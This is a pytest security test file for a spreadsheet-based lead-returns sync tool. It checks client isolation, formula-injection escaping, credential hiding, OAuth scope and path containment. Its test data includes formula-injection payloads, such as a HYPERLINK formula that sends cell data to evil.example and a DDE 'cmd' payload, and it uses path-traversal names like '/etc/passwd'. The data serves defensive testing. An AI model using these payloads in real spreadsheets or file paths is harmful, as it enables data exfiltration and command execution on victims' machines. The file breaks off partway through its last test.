"""Security properties, each checked on real files or over real HTTP (FakeSheetsServer).

1. Cross-client isolation: nothing a client sees depends on another client's leads or
   requests (its returns workbook is the same, byte for byte, whether the IDs it pasted are
   another client's leads or nobody's); nothing of one client reaches another's workbook;
   the run summaries are aggregates.
2. Review lives only in the operator's workbook: nothing a client types anywhere in its own
   workbook (statuses, credits, dates, a Decision column, Review or Decision tabs) approves
   or credits anything, on Excel and on Google.
3. No formula is ever built from client text: returns tabs, the Review tab and tracking
   tabs on Excel (cells are text, with Excel's quote prefix), on Google (``stringValue``),
   and CSV files a spreadsheet program opens (audit.csv, the per-source returns files):
   text starting with a formula trigger gets a leading apostrophe (OWASP CSV injection).
4. Credentials never appear in output, JSON or log records, on succeeding and failing paths.
5. The service account asks for the spreadsheets scope only (read from the signed JWT).
6. Files keep their permissions when the engine rewrites them; report files stay inside
   their folder whatever a lead source is called.
7. The bearer token never travels in clear: ``SHEETS_SYNC_GOOGLE_API_URL`` must be https, or
   plain http to a loopback host; anything else stops a run before any login or request.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import logging
import os
import re
import stat
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import Workspace, read_xlsx, write_xlsx
from openpyxl import load_workbook
from test_returns_engine import AS_OF, edit_cells, ledger_rows

from sheets_sync import load_config, run_sync
from sheets_sync.backends.google.endpoint import API_URL_ENV
from sheets_sync.backends.google.workbook import CREDENTIALS_ENV, SHEETS_SCOPE
from sheets_sync.testing import Exchange, FakeSheetsServer

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\uff1d1+1",
]
ENGINE_FORMULA = re.compile(r'=[A-Z0-9(),+\-*/=<>" ]+')
"""The only formulas the engine writes: tracking-tab arithmetic and IF over cell references."""


def sync(ws: Workspace, as_of: str = AS_OF):
    return run_sync(load_config(ws.config_path), as_of=datetime.fromisoformat(as_of))


def cli(config: Path, *arguments: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "sheets_sync", *arguments, "--config", str(config)],
                          capture_output=True, text=True, timeout=300, env={**os.environ, **(env or {})})


def xlsx_parts(path: Path) -> dict[str, bytes]:
    """The parts of an .xlsx file, without the one that stamps the time it was saved."""
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name != "docProps/core.xml"}


def xlsx_text(path: Path) -> str:
    return "\n".join(data.decode("utf-8", "replace") for data in xlsx_parts(path).values())


def workbook_strings(path: Path) -> list[str]:
    """What a person can read in a workbook: tab titles, cell values and cell notes."""
    book = load_workbook(path)
    found = list(book.sheetnames)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    found.append(str(cell.value))
                if cell.comment is not None:
                    found.append(cell.comment.text)
    return found


# == 1. Cross-client isolation ======================================================================================

ACME_PASTES = [
    ["A1", "wrong number", "acme-private-note"],
    ["A2", "wrong number"],                    # over Acme's own cap: waits for review, with Acme's own counts
    ["Z-1001", "wrong number"],                # Zenith's lead in world A, nobody's in world B
    [777, "wrong number"],                     # Zenith's 000777 with its zeros lost
    ["zx-55", "fake"],                         # Zenith's ZX-55 in another letter case
    ["1.23457E+15", "wrong number"],           # Zenith's 1234567890123456, as a spreadsheet shortens it
    [1234567890123450, "fake"],                # ... and as a number cell cut to 15 digits
    ["123", "fake"],                           # Acme's 0123; Zenith has 00123 and 000123
    ["Z-2001, A1", "fake"],                    # a Mixed row: Zenith's lead beside Acme's own
    ["Z-1001", "wrong number"],                # asked again
]


def isolation_world(root: Path, zenith_owns: bool) -> Workspace:
    """Acme's side is the same in both worlds; only Zenith's leads and requests differ."""
    ws = Workspace(root)
    ws.lead("A1", "2024-03-01 10:00", "Acme", "10.00")
    ws.lead("A2", "2024-03-01 11:00", "Acme", "20.00")
    ws.lead("0123", "2024-03-01 12:00", "Acme", "3.00")
    if zenith_owns:
        for lead in ("Z-1001", "000777", "ZX-55", "1234567890123456", "00123", "000123", "Z-2001"):
            ws.lead(lead, "2024-03-01 10:00", "Zenith", "99.00", vertical="Roofing")
    ws.lead("Q-1", "2024-03-01 10:00", "Zenith", "99.00", vertical="Roofing")
    ws.client("Acme", ACME_PASTES, policy={"max_return_rate": 0.5})
    ws.client("Zenith", [["Z-1001", "wrong number"], ["Q-1", "fake"], ["123", "fake"]],
              policy={"window_days": 30})
    ws.write()
    return ws


def test_a_client_sees_exactly_the_same_whether_the_ids_it_pasted_are_another_clients_or_nobodys(
        tmp_path: Path) -> None:
    worlds = {owns: isolation_world(tmp_path / f"zenith_owns_{owns}", owns) for owns in (True, False)}
    outputs = {}
    for owns, ws in worlds.items():
        first = cli(ws.config_path, "run", "--as-of", AS_OF, "--json")
        ws.paste("Acme", [["Z-1001", "fake"], ["000777", "fake"]])   # the next day, again and in full
        second = cli(ws.config_path, "run", "--as-of", "2024-03-04T09:00", "--json")
        assert first.returncode == second.returncode == 0, first.stderr + second.stderr
        outputs[owns] = (json.loads(first.stdout), json.loads(second.stdout))

    acme = {owns: ws.returns_path("Acme") for owns, ws in worlds.items()}
    assert xlsx_parts(acme[True]) == xlsx_parts(acme[False])           # byte for byte, every part
    rows = read_xlsx(acme[True], "Returns")
    statuses = [row[3] for row in rows[1:]]
    assert statuses == ["Approved", "Needs review", "Unknown lead ID", "Unknown lead ID", "Unknown lead ID",
                        "Unknown lead ID", "Unknown lead ID", "Needs review", "Mixed", "Duplicate request",
                        "Duplicate request", "Unknown lead ID"]
    assert "(2 of 3 leads)" in rows[2][4]                              # counts of Acme's own leads only
    assert rows[8][4].endswith("Read '123' as lead 0123.")             # Acme's one candidate, not Zenith's two

    # What Acme could learn about Zenith's leads is nothing: no ID beyond what it typed.
    text = xlsx_text(acme[True])
    for secret in ("Zenith", "Roofing", "ZX-55", "1234567890123456", "00123", "99.00", "Q-1"):
        assert secret not in text, secret
    # The ledger keeps the same record of Acme in both worlds.
    acme_entries = [[{key: value for key, value in entry.items() if key not in ("seq", "run_id")}
                     for entry in ledger_rows(ws) if entry["client"] == "Acme"] for ws in worlds.values()]
    assert acme_entries[0] == acme_entries[1]


def test_nothing_of_one_client_reaches_another_clients_workbook(tmp_path: Path) -> None:
    ws = isolation_world(tmp_path, zenith_owns=True)
    sync(ws)
    zenith = workbook_strings(ws.returns_path("Zenith"))
    for secret in ("Acme", "acme-private-note", "A1", "A2", "0123", "Z-2001", "777", "1.23457E+15", "zx-55", "$10.00"):
        assert not any(re.search(rf"(?<![0-9A-Za-z]){re.escape(secret)}(?![0-9A-Za-z])", text) for text in zenith), \
            secret
    assert "acme-private-note" not in xlsx_text(ws.returns_path("Zenith"))
    acme = workbook_strings(ws.returns_path("Acme"))
    assert not any("Zenith" in text or "Q-1" in text or "Roofing" in text for text in acme)
    # Zenith's own ambiguous "123" names only Zenith's candidates.
    zenith_rows = read_xlsx(ws.returns_path("Zenith"), "Returns")
    assert zenith_rows[3][4] == "No lead 123 was delivered to you (123 could be 000123 or 00123: paste the full ID)."
    assert "Review" not in load_workbook(ws.returns_path("Acme")).sheetnames    # review is not in a client's book


def test_run_summaries_are_aggregates_that_name_no_lead(tmp_path: Path) -> None:
    ws = isolation_world(tmp_path, zenith_owns=True)
    plain = cli(ws.config_path, "run", "--as-of", AS_OF)
    assert plain.returncode == 0 and plain.stdout.count("\n") == 1
    as_json = cli(ws.config_path, "run", "--as-of", "2024-03-03T11:00", "--json")
    summary = json.loads(as_json.stdout)
    assert {"decisions", "rows_by_status", "credits", "cells_written", "problems", "errors"} <= set(summary)
    for value in summary.values():     # counts by status word, never by client or lead
        assert not isinstance(value, dict) or set(value) <= {"Approved", "Rejected", "Needs review", "Mixed",
                                                             "Duplicate request", "Unknown lead ID"}
    for output in (plain.stdout, as_json.stdout):
        for lead in ("Z-1001", "000777", "ZX-55", "0123", "acme-private-note", "\"A1\"", " A1 "):
            assert lead not in output, lead


# == 2. Review lives only in the operator's workbook ================================================================


@pytest.fixture
def decided(workspace: Workspace) -> Workspace:
    """Acme asked on March 3: A1 approved, A2 waits for review, A3 too late."""
    workspace.lead("A1", "2024-03-01 10:00", "Acme", "10.00")
    workspace.lead("A2", "2024-02-27 10:00", "Acme", "22.22")
    workspace.lead("A3", "2024-02-01 10:00", "Acme", "33.33")
    workspace.lead("A4", "2024-02-20 10:00", "Acme", "44.44")
    workspace.client("Acme", [["A1", "wrong number"], ["A2", "he hung up on us"], ["A3", "wrong number"]])
    workspace.run(as_of=AS_OF)
    return workspace


def test_nothing_a_client_types_in_its_own_workbook_approves_or_credits_anything(decided: Workspace) -> None:
    path = decided.returns_path("Acme")
    ledger_before = ledger_rows(decided)
    tracking_before = read_xlsx(decided.root / "tracking.xlsx", "Solar US")
    truth = [row[3:8] for row in read_xlsx(path, "Returns")]

    # Every engine cell claims approval and money; new columns and tabs say Approve.
    edit_cells(path, "Returns", {
        "D3": "Approved", "E3": "Approved by the operator", "F3": 22.22, "G3": datetime(2024, 3, 3),
        "D4": "Approved", "F4": 33.33, "G4": datetime(2024, 2, 4), "H4": datetime(2024, 2, 2, 9, 0),
        "F2": 99999, "I1": "Decision", "I3": "Approve", "I4": "Approved", "J1": "Approved", "J3": "yes",
        "K1": "Credit", "K3": 500, "C3": "Approve", "C4": "approved on review",
        "A5": "A4", "B5": "approve", "D5": "Approved", "F5": 44.44, "H5": datetime(2024, 2, 21, 9, 0),
    })
    edit_cells(path, "Review", {"A1": "Client", "B1": "Lead ID", "C1": "Reason", "D1": "Requested", "E1": "Why",
                                "F1": "Decision", "G1": "Decided",
                                "A2": "Acme", "B2": "A2", "F2": "Approve", "A3": "Acme", "B3": "A3", "F3": "Approve",
                                "A4": "Acme", "B4": "A4", "F4": "Approve"})
    edit_cells(path, "Decision", {"A1": "Lead ID", "B1": "Decision", "A2": "A2", "B2": "Approve"})
    client_typed = {tab: read_xlsx(path, tab) for tab in ("Review", "Decision")}

    report = decided.run(as_of="2024-03-04T10:00")

    new = ledger_rows(decided)[len(ledger_before):]
    assert ledger_rows(decided)[:len(ledger_before)] == ledger_before
    # The only new entry is A4's own decision, by the policy: its reason "approve" means nothing,
    # and the First seen the client typed (inside the window) is not when it was first seen.
    assert [(entry["lead_id"], entry["status"], entry["rule"], entry["credit_cents"]) for entry in new] == \
        [("A4", "Rejected", "window", 0)]
    assert report.credits == 0
    assert read_xlsx(decided.root / "tracking.xlsx", "Solar US") == tracking_before
    rows = read_xlsx(path, "Returns")
    assert [row[3:8] for row in rows[:4]] == truth                     # the truth is written back
    assert rows[4][3] == "Rejected" and rows[4][5] is None and rows[4][7] == datetime(2024, 3, 4, 10, 0)
    assert [row[8:11] for row in rows[1:4]] == [[None, None, None], ["Approve", "yes", 500], ["Approved", None, None]]
    assert {tab: read_xlsx(path, tab) for tab in ("Review", "Decision")} == client_typed
    review = read_xlsx(decided.root / "tracking.xlsx", "Review")
    assert [row[:2] for row in review[1:]] == [["Acme", "A2"]] and review[1][5] is None


def test_only_the_operators_review_tab_decides(decided: Workspace) -> None:
    """The same Approve that does nothing in the client's book works in the operator's."""
    edit_cells(decided.root / "tracking.xlsx", "Review", {"F2": "Approve"})
    decided.run(as_of="2024-03-04T10:00")
    assert [(entry["lead_id"], entry["kind"], entry["status"]) for entry in ledger_rows(decided)][-1] == \
        ("A2", "review", "Approved")


# == 3. No formula from client text =================================================================================


def test_client_text_never_becomes_a_formula_in_any_workbook_the_engine_writes(workspace: Workspace) -> None:
    workspace.lead("A1", "2024-03-01 10:00", "Acme")
    workspace.lead("A2", "2024-03-01 10:00", "Acme")
    pastes = [[payload, payload] for payload in PAYLOADS] + [[f"{PAYLOADS[1]}, A1", PAYLOADS[0]],
                                                            ["A2", PAYLOADS[1]]]
    path = workspace.client("Acme", pastes)
    workspace.run(as_of=AS_OF)

    for book_path in (path, workspace.root / "tracking.xlsx"):
        book = load_workbook(book_path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert sheet.title not in ("Returns", "Review") and ENGINE_FORMULA.fullmatch(cell.value), \
                            (sheet.title, cell.coordinate, cell.value)
                    elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")) and \
                            not (sheet.title == "Returns" and cell.column <= 3):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    grid = read_xlsx(path, "Returns")
    assert [row[:2] for row in grid[1:]] == pastes                    # the client's cells are as typed, CRs too
    assert grid[len(PAYLOADS) + 1][4].startswith("=cmd|")               # a Detail that starts with client text...
    review = read_xlsx(workspace.root / "tracking.xlsx", "Review")
    reasons = [row[2] for row in review[1:]]
    assert reasons and set(reasons) <= set(PAYLOADS)                    # ...and the Review tab's copies


def test_csv_files_neutralise_cells_a_spreadsheet_program_would_run(tmp_path: Path) -> None:
    """audit.csv and the per-source returns files: client names come from the config and lead
    IDs and sources from the lead log, which a vendor's feed fills; none may run as a formula."""
    ws = Workspace(tmp_path)
    ids = ["=1+1", "+A2", "-12", "@SUM(1)", "\uff1dA1", "SAFE-1"]
    for number, lead in enumerate(ids):
        ws.lead(lead, f"2024-03-0{1 + number % 2} 10:00", "=Evil Client", source=f"=cmd|' /C calc'!A{number}")
    write_xlsx(tmp_path / "returns" / "evil.xlsx", {"Returns": [["Lead ID", "Reason"], *[[lead, "fake"] for lead in ids]]})
    ws.clients["=Evil Client"] = {"returns": {"excel": "returns/evil.xlsx", "tab": "Returns"}}
    ws.policy.update(window_days=30)
    ws.write()
    report = ws.run(as_of=AS_OF)
    assert report.exit_code == 0 and len(report.new_entries) == len(ids)
    result = cli(ws.config_path, "report", "--as-of", "2024-03-04T10:00")
    assert result.returncode == 0, result.stderr

    files = [tmp_path / "audit.csv", *sorted((tmp_path / "returns-by-source").glob("*.csv"))]
    assert len(files) > 1
    seen_ids = set()
    for path in files:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        header, body = rows[0], rows[1:]
        assert body
        for row in body:
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)
            lead = row[header.index("Lead ID")]
            seen_ids.add(lead)
            assert row[header.index("Client")] == "'=Evil Client"
    assert seen_ids == {"'" + lead if lead.startswith(FORMULA_TRIGGERS) else lead for lead in ids}
    assert all(path.parent == tmp_path / "returns-by-source" or path.name == "audit.csv" for path in files)


# == Google: a local Sheets API with a real signed login ===========================================================


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeSheetsServer]:
    exchanges: list[Exchange] = []
    with FakeSheetsServer(observe=exchanges.append) as fake:
        fake.exchanges = exchanges  # type: ignore[attr-defined]
        monkeypatch.setenv(API_URL_ENV, fake.url)
        yield fake


GOOGLE_LEADS = [
    ["Lead ID", "Delivered At", "Client", "Vertical", "Country", "Price", "Cost", "Source"],
    ["A1", datetime(2024, 3, 1, 10), "Acme", "Solar", "US", 25, 4, "Vendor A"],
    ["A2", datetime(2024, 2, 27, 10), "Acme", "Solar", "US", 30, 4, "Vendor A"],
    ["Z1", datetime(2024, 3, 1, 10), "Zenith", "Solar", "UK", 40, 4, "Vendor B"],
]


class GoogleSetup:
    def __init__(self, server: FakeSheetsServer, root: Path, acme_rows: list[list[Any]],
                 acme_tabs: dict[str, list[list[Any]]] | None = None) -> None:
        self.server, self.root = server, root
        self.email = server.service_account_file(root / "key.json")
        self.key = json.loads((root / "key.json").read_text())
        self.leads = server.create_spreadsheet("Leads", {"Leads": GOOGLE_LEADS})
        self.tracking = server.create_spreadsheet("Tracking", {"Sheet1": []})
        self.acme = server.create_spreadsheet("Acme returns", {"Returns": [["Lead ID", "Reason", "Note"], *acme_rows],
                                                               **(acme_tabs or {})})
        self.zenith = server.create_spreadsheet("Zenith returns", {"Returns": [["Lead ID", "Reason"], ["Z1", "fake"]]})
        self.config = {
            "timezone": "America/New_York",
            "google": {"credentials": "key.json", "retry_budget_seconds": 3},
            "leads": {"google": self.leads, "tab": "Leads"},
            "tracking": {"google": self.tracking},
            "policy": {"window_days": 7, "max_return_rate": 1},
            "clients": {"Acme": {"returns": {"google": self.acme, "tab": "Returns"}},
                        "Zenith": {"returns": {"google": self.zenith, "tab": "Returns"}}},
        }
        self.write_config()

    @property
    def config_path(self) -> Path:
        return self.root / "config.yaml"

    def write_config(self) -> None:
        self.config_path.write_text(yaml.safe_dump(self.config))

    def run(self, as_of: str = AS_OF):
        return run_sync(load_config(self.config_path), as_of=datetime.fromisoformat(as_of))

    def tab_titles_by_id(self) -> dict[int, str]:
        """Each tab's title by sheet id, as the server told them or the engine added them."""
        titles: dict[int, str] = {}
        for exchange in self.server.exchanges:  # type: ignore[attr-defined]
            sheets = (exchange.response_body or {}).get("sheets", []) if exchange.status == 200 else []
            titles.update({sheet["properties"]["sheetId"]: sheet["properties"]["title"] for sheet in sheets
                           if "sheetId" in sheet.get("properties", {})})
            for request in (exchange.request_body or {}).get("requests", []) \
                    if exchange.api_method == "sheets.spreadsheets.batchUpdate" else []:
                properties = request.get("addSheet", {}).get("properties", {})
                if "sheetId" in properties:
                    titles[properties["sheetId"]] = properties["title"]
        return titles


def test_a_client_cannot_approve_anything_from_its_google_spreadsheet(server: FakeSheetsServer,
                                                                     tmp_path: Path) -> None:
    setup = GoogleSetup(server, tmp_path, [["A1", "he hung up"], ["A2", "wrong number"]],
                        acme_tabs={"Review": [], "Decision": []})  # tabs the client made in its spreadsheet
    setup.config["policy"]["window_days"] = 3   # A1 (2 days old) waits for review, A2 (5 days) is too late
    setup.write_config()
    assert setup.run().exit_code == 0
    server.edit(setup.acme, "Returns!D2:F3", [["Approved", "ok", 25], ["Approved", "ok", 30]])
    server.edit(setup.acme, "Returns!I1:I3", [["Decision"], ["Approve"], ["Approve"]])
    server.edit(setup.acme, "Review!A1:G3", [["Client", "Lead ID", "Reason", "Requested", "Why", "Decision",
                                              "Decided"], ["Acme", "A1", "", "", "", "Approve", ""],
                                             ["Acme", "A2", "", "", "", "Approve", ""]])
    server.edit(setup.acme, "Decision!A1:B3", [["Lead ID", "Decision"], ["A1", "Approve"], ["A2", "Approve"]])
    report = setup.run("2024-03-04T10:00")
    assert report.new_entries == [] and report.credits == 0
    rows = server.values(setup.acme, "Returns")
    assert [row[3] for row in rows[1:]] == ["Needs review", "Rejected"]
    assert [row[5] if len(row) > 5 else "" for row in rows[1:]] == ["", ""]
    review = server.values(setup.tracking, "Review")
    assert review[1][:2] == ["Acme", "A1"] and (len(review[1]) <= 5 or review[1][5] == "")


def test_on_google_client_text_is_only_ever_sent_as_a_string_value(server: FakeSheetsServer, tmp_path: Path) -> None:
    setup = GoogleSetup(server, tmp_path, [[payload, payload] for payload in PAYLOADS] +
                        [[f"{PAYLOADS[0]}, A1", PAYLOADS[1]], ["A2", PAYLOADS[2]]])
    assert setup.run().exit_code == 0
    tracking_tabs = setup.tab_titles_by_id()
    formulas, strings = [], []
    for exchange in server.exchanges:  # type: ignore[attr-defined]
        if exchange.api_method != "sheets.spreadsheets.batchUpdate":
            continue
        spreadsheet = exchange.path.split("/spreadsheets/")[1].split(":")[0]
        for request in exchange.request_body["requests"]:
            update = request.get("updateCells")
            if update is None:
                continue
            for row in update["rows"]:
                for value in row.get("values", []):
                    entered = value.get("userEnteredValue", {})
                    if "formulaValue" in entered:
                        formulas.append((spreadsheet, tracking_tabs.get(update["start"]["sheetId"]),
                                         entered["formulaValue"]))
                    if "stringValue" in entered:
                        strings.append(entered["stringValue"])
    assert formulas and all(spreadsheet == setup.tracking and tab not in ("Review", "Audit log", None)
                            and ENGINE_FORMULA.fullmatch(formula) for spreadsheet, tab, formula in formulas)
    assert all(payload not in formula for _, _, formula in formulas for payload in PAYLOADS)
    assert PAYLOADS[1] in strings                                     # the Review tab's copy of a reason
    assert any(text.startswith("=HYPERLINK") for text in strings)     # a Detail that starts with client text


# == 4. Credentials never appear ====================================================================================


def secrets_of(setup: GoogleSetup) -> dict[str, str]:
    """The key's private parts and every token and signed grant the server saw."""
    pem_body = "".join(line for line in setup.key["private_key"].splitlines() if "PRIVATE KEY" not in line)
    found = {"private_key_id": setup.key["private_key_id"]}
    found.update({f"private_key[{start}]": pem_body[start:start + 24] for start in range(0, len(pem_body) - 24, 200)})
    for number, exchange in enumerate(setup.server.exchanges):  # type: ignore[attr-defined]
        if exchange.api_method == "oauth2.token":
            assertion = (exchange.request_body or {}).get("assertion", "")
            if assertion:
                found[f"assertion[{number}]"] = assertion.split(".")[2][:40]
                found[f"claims[{number}]"] = assertion.split(".")[1][:40]
            token = (exchange.response_body or {}).get("access_token")
            if token:
                found[f"token[{number}]"] = token
    return found


def assert_no_secret(setup: GoogleSetup, texts: list[str]) -> None:
    found = secrets_of(setup)
    assert any(name.startswith("token") for name in found) and any(name.startswith("assertion") for name in found)
    for text in texts:
        for name, secret in found.items():
            assert secret not in text, f"{name} leaked"


FAILURES = {
    "succeeds": lambda setup: None,
    "not_shared": lambda setup: setup.config["clients"]["Acme"]["returns"].update(
        google=setup.server.create_spreadsheet("Private", {"Returns": [["Lead ID", "Reason"]]}, shared=False)),
    "unknown_spreadsheet": lambda setup: setup.config["clients"]["Acme"]["returns"].update(google="1NoSuchSheet"),
    "google_keeps_failing": lambda setup: (setup.server.fail_next(status=503, count=1000),
                                           setup.config["google"].update(retry_budget_seconds=0.5)),
    "key_of_another_account": lambda setup: (setup.root / "key.json").write_text(json.dumps(
        setup.key | {"client_email": "someone-else@example.iam.gserviceaccount.com"})),
    "key_garbled": lambda setup: (setup.root / "key.json").write_text(json.dumps(
        setup.key | {"private_key": setup.key["private_key"][:400] + "garbage" + setup.key["private_key"][400:]})),
    "key_not_json": lambda setup: (setup.root / "key.json").write_text(setup.key["private_key"]),
}


class _Records(logging.Handler):
    """Every log record of every library, formatted as a log file would hold it."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []
        self.setFormatter(logging.Formatter("%(name)s %(levelname)s %(message)s"))

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.mark.parametrize("path", list(FAILURES))
def test_credentials_never_appear_in_output_json_or_logs(path: str, server: FakeSheetsServer, tmp_path: Path) -> None:
    setup = GoogleSetup(server, tmp_path, [["A1", "wrong number"]])
    assert setup.run().exit_code == 0      # a good login first, so there are tokens to look for
    FAILURES[path](setup)
    setup.write_config()
    env = {API_URL_ENV: server.url}
    outputs = []
    for arguments in (["run", "--as-of", "2024-03-04T10:00"], ["run", "--json", "--as-of", "2024-03-04T11:00"],
                      ["check"], ["report", "--json", "--no-files"]):
        result = cli(setup.config_path, *arguments, env=env)
        assert "Traceback" not in result.stderr, result.stderr
        assert result.returncode in (0, 1), (arguments, result.stdout, result.stderr)
        outputs += [result.stdout, result.stderr]
    if path != "succeeds":
        assert any("failed" in output or "✗" in output for output in outputs)
    records, root = _Records(), logging.getLogger()
    level = root.level
    root.addHandler(records)
    root.setLevel(logging.DEBUG)
    try:
        report = setup.run("2024-03-04T13:00")
    finally:
        root.removeHandler(records)
        root.setLevel(level)
    assert records.lines                   # the libraries did log (urllib3 at least)
    records = records.lines + [json.dumps(report.as_json()), *(str(failure) for failure in report.failures)]
    assert_no_secret(setup, outputs + records)
    if path in ("key_garbled", "key_not_json"):
        assert "is not a Google service-account key" in "".join(outputs)
    if path == "key_of_another_account":
        assert "refused to log in" in "".join(outputs)


def test_the_key_can_come_from_the_environment_and_still_never_shows(server: FakeSheetsServer,
                                                                     tmp_path: Path) -> None:
    setup = GoogleSetup(server, tmp_path, [["A1", "wrong number"]])
    del setup.config["google"]["credentials"]
    setup.write_config()
    result = cli(setup.config_path, "run", "--json", "--as-of", AS_OF,
                 env={API_URL_ENV: server.url, CREDENTIALS_ENV: str(tmp_path / "key.json")})
    assert result.returncode == 0, result.stderr
    assert_no_secret(setup, [result.stdout, result.stderr])


# == 5. The spreadsheets scope only =================================================================================


def _claims(assertion: str) -> dict[str, Any]:
    part = assertion.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def test_the_service_account_asks_for_the_spreadsheets_scope_only(server: FakeSheetsServer, tmp_path: Path) -> None:
    setup = GoogleSetup(server, tmp_path, [["A1", "wrong number"]])
    assert setup.run().exit_code == 0
    assert cli(setup.config_path, "check", env={API_URL_ENV: server.url}).returncode == 0
    assert cli(setup.config_path, "report", "--no-files", env={API_URL_ENV: server.url}).returncode == 0
    grants = [exchange for exchange in server.exchanges  # type: ignore[attr-defined]
              if exchange.api_method == "oauth2.token"]
    assert grants
    for grant in grants:
        claims = _claims(grant.request_body["assertion"])
        assert claims["scope"] == SHEETS_SCOPE == "https://www.googleapis.com/auth/spreadsheets"
        assert claims["iss"] == setup.email
        assert claims["aud"] in (setup.key["token_uri"], "https://oauth2.googleapis.com/token")
        assert "sub" not in claims                                    # no domain-wide delegation
        assert claims["exp"] - claims["iat"] <= 3600
        assert grant.status == 200


# == 6. Files ======================================================================================================


def test_a_rewritten_workbook_keeps_its_permissions(workspace: Workspace) -> None:
    workspace.lead("A1", "2024-03-01 10:00", "Acme")
    path = workspace.client("Acme", [["A1", "wrong number"]])
    workspace.run(as_of="2024-03-01T12:00")
    path.chmod(0o600)                                   # a private workbook
    (workspace.root / "tracking.xlsx").chmod(0o640)     # shared with a group only
    workspace.paste("Acme", [["A1", "fake"]])
    path.chmod(0o600)
    workspace.run(as_of=AS_OF)
    assert workspace.returns("Acme")[1]["Status"] == "Duplicate request"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE((workspace.root / "tracking.xlsx").stat().st_mode) == 0o640


def test_report_files_stay_in_their_folder_whatever_a_source_is_called(tmp_path: Path) -> None:
    ws = Workspace(tmp_path)
    sources = ["../../escape", "/etc/passwd", "..", "C:\\Windows\\evil", "a/b", "CON", ".hidden"]
    for number, source in enumerate(sources):
        ws.lead(f"L{number}", "2024-03-01 10:00", "Acme", source=source)
    ws.client("Acme", [[f"L{number}", "wrong number"] for number in range(len(sources))])
    ws.write()
    ws.run(as_of=AS_OF)
    before = {path for path in tmp_path.parent.rglob("*")}
    result = cli(ws.config_path, "report", "--as-of", "2024-03-04T10:00")
    assert result.returncode == 0, result.stderr
    written = {path for path in tmp_path.parent.rglob("*")} - before
    written -= {tmp_path / "ledger.sqlite-shm", tmp_path / "ledger.sqlite-wal"}  # SQLite's own, when reading
    assert len(written) > len(sources) // 2
    assert all(path.is_relative_to(tmp_path / "returns-by-source") for path in written), written


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", "\uff0b1", "\uff0d1",
                                  "\uff20x"])
def test_every_formula_trigger_gets_the_apostrophe_in_csv_cells(text: str) -> None:
    from sheets_sync.core.project.audit import csv_safe

    assert csv_safe(text) == "'" + text
    assert csv_safe("A" + text) == "A" + text and csv_safe("") == ""


# == 7. The bearer token goes over TLS, or to this machine only ====================================================


@pytest.mark.parametrize("url, root", [
    ("", "https://sheets.googleapis.com"),
    ("http://127.0.0.1:8123", "http://127.0.0.1:8123"),
    ("http://127.42.0.9:8123/", "http://127.42.0.9:8123"),
    ("http://localhost:8123", "http://localhost:8123"),
    ("http://[::1]:8123", "http://[::1]:8123"),
    ("https://sheets.example.com/proxy/", "https://sheets.example.com/proxy"),
])
def test_the_api_url_may_be_https_or_plain_http_to_a_loopback_host(url: str, root: str,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    from sheets_sync.backends.google.endpoint import sheets_api_root

    monkeypatch.setenv(API_URL_ENV, url)
    assert sheets_api_root() == root


@pytest.mark.parametrize("url, says", [
    ("http://sheets.example.com", "names http://sheets.example.com, which would send the service account's token "
                                  "unencrypted"),
    ("http://10.0.0.5:8123", "names http://10.0.0.5"),
    ("http://0.0.0.0:8123", "names http://0.0.0.0"),
    ("http://localhost.example.com", "names http://localhost.example.com"),
    ("http://127.0.0.1.nip.io:8123", "names http://127.0.0.1.nip.io"),
    ("http://[::2]:8123", "names http://[::2]"),
    ("ftp://127.0.0.1", "is not a base URL"),
    ("127.0.0.1:8123", "is not a base URL"),
    ("http://", "is not a base URL"),
    ("http://[::1", "is not a base URL"),
    ("http://127.0.0.1:99999", "is not a base URL"),
    ("http://user:s3cret@127.0.0.1:8123", "is not a base URL"),
    ("http://127.0.0.1\\@sheets.example.com", "is not a base URL"),
    ("https://sheets.example.com/?key=s3cret", "is not a base URL"),
])
def test_any_other_api_url_is_refused_in_one_sentence_naming_the_variable(url: str, says: str,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from sheets_sync.backends.google.endpoint import GoogleApiUrlError, sheets_api_root
    from sheets_sync.config import ConfigError

    monkeypatch.setenv(API_URL_ENV, url)
    with pytest.raises(GoogleApiUrlError) as raised:
        sheets_api_root()
    message = str(raised.value)
    assert message.startswith(f"{API_URL_ENV} {says}") and message.endswith(".") and "\n" not in message
    assert "s3cret" not in message                                   # the URL is not echoed whole
    assert isinstance(raised.value, ConfigError)


def test_a_plain_http_api_url_to_another_host_stops_before_any_login_or_request(server: FakeSheetsServer,
                                                                              tmp_path: Path) -> None:
    """The key's token URI is the local server: had the run gone ahead, its first act would
    have been a login there, then the token would have gone in clear to the remote host."""
    setup = GoogleSetup(server, tmp_path, [["A1", "wrong number"]])
